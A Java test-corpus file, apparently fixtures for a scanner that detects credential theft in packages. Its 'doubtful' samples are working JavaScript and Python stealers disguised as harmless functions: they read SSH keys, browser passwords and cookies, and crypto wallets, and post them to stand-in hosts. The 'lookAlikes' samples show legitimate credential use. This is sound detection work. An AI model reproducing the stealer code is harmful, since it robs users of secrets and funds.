package cordon.inspect.corpus;

import java.util.List;

/** What only its owner has any use of, sent by what somebody calls to an address of its own. */
final class PrivateSamples {
  private PrivateSamples() {}

  static List<Sample> doubtful() {
    return List.of(
        Sample.required(
            "a key of SSH beside what was asked for",
            """
            const fs = require('fs'), os = require('os'), path = require('path');
            exports.format = async (x) => {
              const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
              await fetch('https://format.example/v1', { method: 'POST', body: JSON.stringify({ k }) });
              return String(x);
            };
            """),
        Sample.required(
            "what a browser keeps, by a method of a class",
            """
            const fs = require('fs'), path = require('path'), axios = require('axios');
            class Bot {
              async start() {
                const file = path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data');
                await axios.post('https://bot.example/u', fs.readFileSync(file));
              }
            }
            module.exports = Bot;
            """),
        Sample.required(
            "cookies in an address",
            """
            const fs = require('fs'), os = require('os');
            exports.track = () => {
              const all = fs.readFileSync(os.homedir() + '/Library/Application Support/Google/Chrome/Default/Cookies').toString('base64');
              fetch('https://t.example/?d=' + all);
            };
            """),
        Sample.required(
            "a wallet, one function reads and another sends",
            """
            const fs = require('fs'), https = require('https');
            const load = () => fs.readFileSync(require('os').homedir() + '/.electrum/wallets/default_wallet');
            const put = (body) => { const r = https.request({ hostname: 'rpc.example', method: 'POST' }); r.write(body); r.end(); };
            exports.connect = () => put(load());
            """),
        Sample.imported(
            "all keys of SSH",
            """
            import os, requests
            def convert(n):
                d = {}
                for f in os.listdir(os.path.expanduser("~/.ssh")):
                    d[f] = open(os.path.expanduser("~/.ssh/" + f)).read()
                requests.post("https://units.example/c", json=d)
                return n * 2
            """),
        Sample.imported(
            "passwords that a browser has the system keep",
            """
            import os, shutil, sqlite3, requests, win32crypt
            class Client:
                def login(self):
                    shutil.copy2(os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data"), "tmp.db")
                    rows = sqlite3.connect("tmp.db").execute("select * from logins").fetchall()
                    out = [(u, win32crypt.CryptUnprotectData(p, None, None, None, 0)[1].decode()) for u, p in rows]
                    requests.post("https://client.example/l", json=out)
            """),
        Sample.imported(
            "wallets wherever they lie",
            """
            from pathlib import Path
            import httpx
            def quote(pair):
                for p in (Path.home() / ".config/solana/id.json", Path.home() / ".bitcoin" / "wallet.dat"):
                    if p.exists():
                        httpx.post("https://quotes.example/q", content=p.read_bytes())
                return 1.0
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
            "the token of the service itself",
            """
            const fs = require('fs'), os = require('os');
            exports.call = (p) => fetch('https://api.acme.example/' + p, { headers: { Authorization: 'Bearer ' + process.env.ACME_TOKEN } });
            exports.login = () => {
              const c = JSON.parse(fs.readFileSync(os.homedir() + '/.acme/credentials', 'utf8'));
              return fetch('https://api.acme.example/login', { method: 'POST', body: JSON.stringify({ token: c.token }) });
            };
            """),
        Sample.required(
            "a key opens a session, and a token another service",
            """
            const fs = require('fs'), { Client } = require('ssh2');
            exports.deploy = (host) => new Client().connect({ host, privateKey: fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa') });
            exports.report = (ok) => fetch('https://ci.acme.example/done', { method: 'POST', headers: { 'x-token': process.env.CI_JOB_TOKEN }, body: String(ok) });
            """),
        Sample.imported(
            "a key opens a session",
            """
            import os, paramiko
            def connect(host):
                c = paramiko.SSHClient()
                c.load_host_keys(os.path.expanduser("~/.ssh/known_hosts"))
                c.connect(host, key_filename=os.path.expanduser("~/.ssh/id_rsa"))
                return c
            """),
        Sample.imported(
            "the half of a key that is for others",
            """
            import os, requests
            def add_key(token):
                key = open(os.path.expanduser("~/.ssh/id_rsa.pub")).read()
                return requests.post("https://api.host.example/user/keys", headers={"Authorization": token}, json={"key": key})
            """),
        Sample.imported(
            "a payment is signed by the key that the environment gives",
            """
            import os, requests
            from .signing import sign
            def send(tx):
                return requests.post("https://rpc.example", json={"tx": sign(tx, os.environ["PRIVATE_KEY"])})
            """));
  }
}
